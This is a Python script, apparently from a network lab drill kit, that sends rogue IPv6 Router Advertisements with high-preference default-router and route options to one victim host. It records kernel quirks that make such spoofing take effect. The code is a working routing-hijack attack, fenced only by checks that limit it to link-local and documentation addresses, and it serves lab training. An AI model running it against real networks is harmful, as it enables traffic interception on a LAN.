# Copyright (c) netdevops.icmp contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""The rogue of drill ``rogue_ra``: IPv6 Router Advertisements from a node that is no router (stdlib only).

Runs inside the rogue's lab namespace and sends COUNT Router Advertisements (ICMPv6 type 134,
RFC 4861 4.2) out of INTERFACE to one VICTIM, from the rogue's own link-local address with hop
limit 255, advertising the rogue as default router with high preference (RFC 4191 2.2) and, for
each ROUTE, a Route Information Option (RFC 4191 2.3) of high preference. Prints one JSON line.

Safety: the advertisement goes to one unicast address, the victim's link-local (fe80::/10) or a
lab address (2001:db8::/32), on the given interface only, never to all-nodes: a segment with a
port in the controller's namespace would otherwise hand the host itself a default route. Every
ROUTE must lie in 2001:db8::/32.

Linux quirks the packet is built around (net/ipv6/ndisc.c, ndisc_router_discovery):
- an RA counts only with hop limit 255 and a link-local source, so the socket binds the rogue's
  link-local and sets the unicast hop limit;
- a host with static routes only (the lab has no default routes) keeps using its more specific
  route: the default router alone changes nothing for the server, so the rogue also announces a
  route for the server's prefix, which a host takes when accept_ra_rt_info_max_plen allows its length;
- the kernel computes the ICMPv6 checksum of a raw ICMPv6 socket itself (RFC 3542 3.1).
"""
from __future__ import annotations

import argparse
import fcntl
import ipaddress
import json
import re
import socket
import struct
import sys
import time

ND_ROUTER_ADVERT = 134
OPTION_SOURCE_LINK_ADDRESS, OPTION_ROUTE_INFORMATION = 1, 24
PREFERENCE = {"high": 0b01, "medium": 0b00, "low": 0b11}  # RFC 4191 2.1 (0b10 is reserved)
SIOCGIFHWADDR = 0x8927  # linux/sockios.h: the interface's link-layer address
IF_INET6 = "/proc/net/if_inet6"  # this process's namespace: address, index, length, scope, flags, name
SCOPE_LINK = 0x20
LAB_RANGE = ipaddress.ip_network("2001:db8::/32")
LINK_LOCAL = ipaddress.ip_network("fe80::/10")
IFNAME = re.compile(r"[A-Za-z0-9_.-]{1,15}")
IPV6_TEXT = re.compile(r"[0-9A-Fa-f:]{2,39}")


def router_advert(preference: str, lifetime_s: int, routes: list, mac: bytes = b"") -> bytes:
    """The ICMPv6 message (checksum 0: the kernel fills it in)."""
    flags = PREFERENCE[preference] << 3
    # cur hop limit, reachable time and retrans timer 0: "unspecified", the victim keeps its own
    message = struct.pack("!BBHBBHII", ND_ROUTER_ADVERT, 0, 0, 0, flags, lifetime_s, 0, 0)
    if mac:
        message += struct.pack("!BB6s", OPTION_SOURCE_LINK_ADDRESS, 1, mac)
    for route in routes:
        message += route_information(route, preference, lifetime_s)
    return message


def route_information(route: ipaddress.IPv6Network, preference: str, lifetime_s: int) -> bytes:
    """RFC 4191 2.3: the prefix in 0, 8 or 16 bytes, as few as its length needs."""
    prefix_bytes = 0 if route.prefixlen == 0 else (8 if route.prefixlen <= 64 else 16)
    header = struct.pack("!BBBBI", OPTION_ROUTE_INFORMATION, 1 + prefix_bytes // 8, route.prefixlen,
                         PREFERENCE[preference] << 3, lifetime_s)
    return header + route.network_address.packed[:prefix_bytes]


def victim_address(text: str) -> str:
    try:
        if IPV6_TEXT.fullmatch(text) is None:  # no %zone: the interface is --interface
            raise ValueError(text)
        address = ipaddress.IPv6Address(text)
    except ValueError as err:
        raise argparse.ArgumentTypeError("%r is not an IPv6 address (without %%zone)" % text) from err
    if address not in LINK_LOCAL and address not in LAB_RANGE:
        raise argparse.ArgumentTypeError("%s is neither link-local (fe80::/10) nor in the lab's %s; refusing to send"
                                         % (address, LAB_RANGE))
    return str(address)


def lab_route(text: str) -> ipaddress.IPv6Network:
    try:
        route = ipaddress.IPv6Network(text, strict=True)
    except ValueError as err:
        raise argparse.ArgumentTypeError("%r is not an IPv6 prefix (%s)" % (text, err)) from err
    if not route.subnet_of(LAB_RANGE):
        raise argparse.ArgumentTypeError("route %s is outside the lab's %s; refusing to announce it" % (route, LAB_RANGE))
    return route


def interface_name(text: str) -> str:
    if IFNAME.fullmatch(text) is None:
        raise argparse.ArgumentTypeError("%r is not an interface name (1-15 letters, digits, _ . -)" % text)
    return text


def link_local_of(ifname: str, table: str) -> str:
    """The interface's link-local address, from the text of /proc/net/if_inet6."""
    for line in table.splitlines():
        fields = line.split()
        if len(fields) == 6 and fields[5] == ifname and int(fields[3], 16) == SCOPE_LINK:
            return str(ipaddress.IPv6Address(bytes.fromhex(fields[0])))
    raise SystemExit("%s has no link-local address in this namespace: an RA must come from one (RFC 4861 6.1.2)"
                     % ifname)


def mac_of(sock: socket.socket, ifname: str) -> bytes:
    answer = fcntl.ioctl(sock.fileno(), SIOCGIFHWADDR, struct.pack("256s", ifname.encode()))
    return answer[18:24]


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--interface", type=interface_name, required=True, help="the rogue's interface on the LAN")
    parser.add_argument("--victim", type=victim_address, required=True, help="the one host the RAs go to")
    parser.add_argument("--route", type=lab_route, action="append", default=[], help="a route to announce (repeat)")
    parser.add_argument("--preference", choices=sorted(PREFERENCE), default="high")
    parser.add_argument("--lifetime", type=int, default=600, choices=range(1, 9001), metavar="1..9000",
                        help="router and route lifetime, seconds")
    parser.add_argument("--count", type=int, default=3, choices=range(1, 21), metavar="1..20")
    parser.add_argument("--interval", type=float, default=0.3)
    args = parser.parse_args()
    ifindex = socket.if_nametoindex(args.interface)
    with open(IF_INET6, encoding="ascii") as table:
        source = link_local_of(args.interface, table.read())
    with socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6) as sock:
        sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS, 255)
        sock.bind((source, 0, 0, ifindex))
        packet = router_advert(args.preference, args.lifetime, args.route, mac_of(sock, args.interface))
        for index in range(args.count):
            sock.sendto(packet, (args.victim, 0, 0, ifindex))
            if index + 1 < args.count:
                time.sleep(max(0.0, min(args.interval, 5.0)))
    json.dump({"sent": args.count, "source": source, "interface": args.interface, "victim": args.victim,
               "routes": [str(route) for route in args.route], "preference": args.preference,
               "lifetime_s": args.lifetime}, sys.stdout)
    sys.stdout.write("\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
